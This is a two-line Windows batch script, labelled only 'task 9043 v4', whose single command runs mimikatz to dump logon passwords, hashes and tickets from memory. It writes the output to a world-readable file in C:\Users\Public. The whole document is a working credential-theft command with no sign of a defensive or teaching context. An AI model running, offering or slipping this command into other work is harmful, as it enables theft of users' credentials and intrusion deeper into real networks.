REM task 9043 v4
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
